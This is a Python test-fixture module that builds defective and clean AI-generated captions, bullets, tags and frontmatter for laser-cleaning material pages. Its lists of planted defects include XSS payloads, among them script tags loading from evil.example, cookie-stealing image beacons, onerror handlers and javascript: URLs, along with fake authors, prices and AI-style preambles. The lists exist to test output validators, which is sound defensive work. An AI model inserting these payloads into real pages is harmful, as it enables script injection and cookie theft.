"""Answers a misbehaving model gives, and answers a good one gives, for the example's materials.

Defective answers are the example's committed caption with one planted sentence (or prefix);
each defect class has at least ten varied plantings. Clean answers are written from each
material's own data (its name, contaminants, applications and numbers, as the data writes them)
in several phrasings, for caption, bullets, tags and frontmatter.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import yaml

from tests.conftest import REPO

# Materials another material's page may name, none a word inside another's name.
OTHERS = ["Borosilicate Glass", "Carbon Fiber Reinforced Polymer", "Silicon Nitride", "Inconel 718",
          "Gallium Arsenide", "Travertine", "Mahogany", "Hastelloy C-276", "Soda-Lime Glass", "Rosewood"]


def materials() -> dict[str, dict]:
    """slug -> material data, in file order."""
    out = {}
    for path in sorted((REPO / "materials").rglob("*.yaml")):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        out[data.get("slug", path.stem)] = data
    return out


def committed(component: str, slug: str) -> dict:
    path = REPO / "content/components" / component / f"{slug}.yaml"
    return yaml.safe_load(path.read_text(encoding="utf-8"))["output"]


def _fmt(x: float) -> str:
    return f"{x:.3g}"


def _other(data: dict, k: int) -> str:
    own = " ".join(str(v) for v in _strings(data)).casefold()
    names = [n for n in OTHERS[k % len(OTHERS):] + OTHERS if n.casefold() not in own
             and n.split()[0].casefold() not in own]
    return names[0]


def _strings(node) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [s for k, v in node.items() for s in (str(k), *_strings(v))]
    if isinstance(node, list):
        return [s for v in node for s in _strings(v)]
    return []


def _top(q: dict) -> float:
    return float(q.get("max", q.get("value", q.get("min"))))


def plantings(cls: str, data: dict, k: int) -> list[str]:
    """Sentences of defect class `cls` for this material (k varies the picks)."""
    L, P = data["laser"], data["properties"]
    other = _other(data, k)
    if cls == "other_material":
        return [f"Unlike {other}, it keeps its shape under the beam.",
                f"The same settings work for {other.lower()} parts.",
                f"Compare it with {other} under the same beam.",
                f"The surface behaves much like {other} here.",
                f"Operators who clean {other} use this fluence window.",
                f"A {other} sample imaged alongside shows the same deposits.",
                f"Results match those reported for {other}.",
                f"Treat it as you would treat {other}.",
                f"Cleaning {other} follows the same recipe.",
                f"Its deposits resemble those on {other} panels.",
                f"The grain looks like that of {other}.",
                f"Shops that strip {other} use this setup."]
    if cls == "script_tag":
        return ["<script>alert('x')</script>",
                "<SCRIPT src=//evil.example/x.js></SCRIPT>",
                "Deposits remain.<script>document.location='//x'</script>",
                "< script >fetch('/steal')< /script >",
                "<script type=module>import('//x')</script>",
                "Note: <script>new Image().src='//x?'+document.cookie</script>",
                "<ScRiPt>eval(atob('YWxlcnQoMSk='))</ScRiPt>",
                "<script\n>alert(3)</script>",
                "The layer <script async src=x.js></script> is thin.",
                "<iframe src=javascript:alert(1)></iframe>",
                "<style>body{display:none}</style>"]
    if cls == "event_handler":
        return ['<img src=x onerror="alert(1)">',
                "<svg onload=alert(1)>",
                'See the <a href="#" onclick="steal()">details</a>.',
                "The tag carries onerror=alert(document.cookie) inside.",
                "<body onload=init()>",
                'x" onmouseover="alert(1)',
                "<div onfocus=alert(1) autofocus>",
                "<input onblur = alert(2)>",
                "An attribute ONERROR=alert(4) was added.",
                "<video><source onerror=alert(5)></video>",
                "Text with onanimationstart=alert(6) in it."]
    if cls == "closing_script":
        return ["</script><script>alert(2)</script>",
                "Deposits are thick </script>",
                "Closing tag </SCRIPT > inserted.",
                "Fin.</script>//end",
                "End of caption.</script><!--",
                "Value </script ><b>x</b>",
                "A break-out </ script> here.",
                "Oxide </script> layer.",
                "The JSON ends </script> early.",
                "Grime </textarea></script> remains.",
                "Text --></script> closes.",
                "A link to javascript:alert(1) is hidden.",
                "Value {{ material.price }} is shown.",
                "Rendered with {% include 'x' %} here."]
    if cls == "person":
        return ["Reviewed by Test Author.",
                "Author: John Doe.",
                "Photo courtesy of Sarah Chen.",
                "Dr. Heinrich Weber recommends these settings.",
                "Prof. Maria Rossi confirmed the result.",
                "Written by Jane Smith for the lab.",
                "Sample Author notes the deposits are thin.",
                "Test User approved this caption.",
                "According to Michael Brown, the layer is thin.",
                "Kenji Tanaka says the oxide is uniform.",
                "Image by Dummy Writer.",
                "Mr. Olsen inspected the sample.",
                "Credit: Anna Lindqvist."]
    if cls == "commerce":
        return ["Order today for just $89.99.",
                "Buy now and save on your next batch.",
                "Available for purchase at 49 EUR per kilogram.",
                "Free shipping on every order this week.",
                "Get yours at a discount while stocks last.",
                "Priced at 120 USD per sheet.",
                "Use promo code CLEAN10 at checkout.",
                "Add to cart a sample pack for only €30.",
                "Call now for the best price.",
                "A limited-time offer ends soon.",
                "Pre-order the cleaning kit today.",
                "Shop now and pay 99 dollars."]
    if cls == "wrong_number":
        return [f"Cleaning uses a fluence of {_fmt(_top(L['fluence']) * 4.3)} J/cm².",
                f"The beam runs at {_fmt(_top(L['power']) * 7.1)} W.",
                f"A density of {_fmt(_top(P['density']) * 1.73)} g/cm³ sets the heat load.",
                f"Pulses of {_fmt(_top(L['pulse_duration']) * 13.7)} ns strip the layer.",
                f"The spot measures {_fmt(_top(L['spot_size']) * 3.3)} µm across.",
                f"Repetition at {_fmt(_top(L['repetition_rate']) * 9.1)} kHz keeps heat low.",
                f"A {_fmt(_top(L['wavelength']) * 1.37)} nm source is used.",
                f"Conductivity of {_fmt(_top(P['thermal_conductivity']) * 2.9)} W/(m·K) spreads heat.",
                f"Specific heat is {_fmt(_top(P['specific_heat']) * 3.7)} J/(g·K).",
                f"Fluence between {_fmt(_top(L['fluence']) * 5.1)} and {_fmt(_top(L['fluence']) * 6.3)} J/cm² works.",
                f"Power from {_fmt(_top(L['power']) * 3.9)} to {_fmt(_top(L['power']) * 4.7)} W is typical."]
    if cls == "preamble":
        return ["Sure! ", "Of course. I'll generate the caption. ", "Here is the caption: ", "Certainly, ",
                "As an AI language model, ", "Okay, here you go: ", "Absolutely! ", "Here's a caption: ",
                "I'm sorry, but ", "Great question! ", "Sure thing. ", "Of course! Below is the text. "]
    if cls == "placeholder":
        return ["Details are TBD.", "TODO: add details.", "It is covered by [insert contaminant].",
                "Lorem ipsum dolor sit amet.", "FIXME check numbers.", "Values XXX apply.",
                "Shown is <insert material here>.", "The {{ name }} surface is shown.", "[citation needed]",
                "This is placeholder text.", "Release date TBA.", "The [Material Name] sample."]
    if cls == "link":
        return ["See https://example.com/specs for details.", "More at www.lasercleaning.example today.",
                "Details: http://bit.ly/abc.", "Read the [datasheet](https://example.org/ds.pdf).",
                "Write to mailto:sales@example.com.", "Visit https://shop.example/item.",
                "Source: https://en.wikipedia.org/wiki/Laser_cleaning.", "Read more at ftp://files.example.org/x.",
                "Download www.example.net/report.pdf now.", "Link: https://docs.example/x?id=3.",
                "(see https://example.com)"]
    raise ValueError(cls)


DEFECT_CLASSES = ("other_material", "script_tag", "event_handler", "closing_script", "person", "commerce",
                  "wrong_number", "preamble", "placeholder", "link")
# The validator each class must trip (others may trip too: a price is also a number not in the data).
EXPECTED_VALIDATOR = {"other_material": "no_foreign_entities", "script_tag": "plain_text",
                      "event_handler": "plain_text", "closing_script": "plain_text",
                      "person": "no_foreign_entities", "commerce": "no_commerce",
                      "wrong_number": "grounded_numbers", "preamble": "no_preamble",
                      "placeholder": "no_placeholders", "link": "plain_text"}


def defective_caption(slug: str, data: dict, cls: str, k: int) -> tuple[str, str]:
    """(answer JSON text, the planted text) for the k-th planting of `cls` on this material."""
    good = dict(committed("caption", slug))
    planted = plantings(cls, data, k)[k % len(plantings(cls, data, k))]
    words = good["before"].split()
    if cls == "preamble":
        good["before"] = planted + good["before"]
    else:  # kept within the 25-70 words: only the planting is wrong
        good["before"] = " ".join(words[: 70 - len(planted.split())]) + " " + planted
    return json.dumps(good, ensure_ascii=False), planted


# ---- clean answers, from the material's own data -------------------------------------------------


def _q(q: dict) -> str:
    unit = q.get("unit", "")
    if "value" in q:
        return f"{q['value']} {unit}".strip()
    return f"{q['min']} to {q['max']} {unit}".strip()


def clean_answer(component: str, slug: str, data: dict, k: int) -> dict:
    """A good answer for this component and material, in one of several phrasings (k)."""
    name, L, P = data["name"], data["laser"], data["properties"]
    cont, apps = data["contaminants"], data["applications"]
    if component == "caption":
        before = [f"Under the microscope the {name} surface carries {', '.join(cont)}, spread unevenly "
                  f"across the field. These layers hide the substrate, scatter light and would weaken "
                  f"the adhesion of any later coating or joint.",
                  f"The {name} sample, before cleaning, shows {cont[0]} over most of the field"
                  f"{' and patches of ' + cont[1] if len(cont) > 1 else ''}. Such deposits obscure defects "
                  f"during inspection and spoil the appearance of the finished part.",
                  f"Before treatment, {name} is dulled by {' and '.join(cont[:2])}. The contaminated layer "
                  f"is patchy, thicker near edges and scratches, and it blocks a clear view of the grain "
                  f"beneath it."][k % 3]
        after = [f"After cleaning at a fluence of {_q(L['fluence'])} and a wavelength of {_q(L['wavelength'])}, "
                 f"the deposits are gone and the substrate is exposed, with its texture intact and no "
                 f"sign of melting or discoloration.",
                 f"The same area after laser cleaning with pulses of {_q(L['pulse_duration'])} at "
                 f"{_q(L['repetition_rate'])}: the contaminants are removed and the clean substrate shows "
                 f"its original structure without cracks.",
                 f"Laser cleaning at {_q(L['power'])} with a spot of {_q(L['spot_size'])} leaves the "
                 f"surface bare; the contaminants have been ablated and the base material looks "
                 f"unchanged and undamaged under magnification."][k % 3]
        return {"before": before, "after": after}
    if component == "bullets":
        return {"bullets": [
            f"Use a fluence of {_q(L['fluence'])} at {_q(L['wavelength'])} so the {cont[0]} absorbs the pulse "
            f"while the substrate stays intact.",
            f"Pulses of {_q(L['pulse_duration'])} at {_q(L['repetition_rate'])} and {_q(L['power'])} keep "
            f"the heat input low.",
            f"A density of {_q(P['density'])} and a thermal conductivity of {_q(P['thermal_conductivity'])} "
            f"set how fast heat spreads from the spot.",
            f"Laser-cleaned {name} is used in {', '.join(apps[:2])}, where a residue-free surface matters."]}
    if component == "tags":
        pattern = re.compile(r"^[a-z0-9]+(?:[ -][a-z0-9]+)*$")
        pool = [name.lower(), "laser cleaning", data["category"], *(c.lower() for c in cont),
                *(a.lower() for a in apps), "surface preparation", "laser ablation", "contaminant removal",
                "non-contact cleaning", "pulsed laser", "fibre laser", "surface treatment"]
        tags = list(dict.fromkeys(t for t in pool if pattern.match(t) and 2 <= len(t) <= 30))
        return {"tags": tags[:8]}
    if component == "frontmatter":
        title = next(t for t in (f"Laser Cleaning {name}: Parameters and Properties",
                                 f"Laser Cleaning {name}", f"{name} Laser Cleaning Guide",
                                 f"{name} laser cleaning") if 20 <= len(t) <= 65)
        description = (f"Laser cleaning {name}: fluence, wavelength, pulse duration and power, with "
                       f"physical properties and typical contaminants.")
        if len(description) > 158:
            description = f"Laser cleaning parameters and physical properties for {name}."
        summary = (f"{name} is cleaned with pulsed lasers at {_q(L['wavelength'])} and a fluence of "
                   f"{_q(L['fluence'])}, which remove {', '.join(cont[:2])} without harming the substrate. "
                   f"Its density of {_q(P['density'])} and thermal conductivity of "
                   f"{_q(P['thermal_conductivity'])} decide how heat spreads, so pulses of "
                   f"{_q(L['pulse_duration'])} keep the process gentle.")
        return {"title": title, "description": description, "summary": summary}
    raise ValueError(component)


def first_user_text(request_json: dict) -> str:
    """The first user message: the prompt (a repair turn quotes errors, which name other materials)."""
    for message in request_json.get("messages") or []:
        if message.get("role") == "user":
            return message.get("content", "")
    return ""


def material_of(request_json: dict, names: dict[str, str]) -> str:
    """The slug of the material the prompt's "- Name:" line names."""
    m = re.search(r"^- Name: (.+)$", first_user_text(request_json), re.M)
    assert m and m.group(1) in names, "no material name in the prompt"
    return names[m.group(1)]
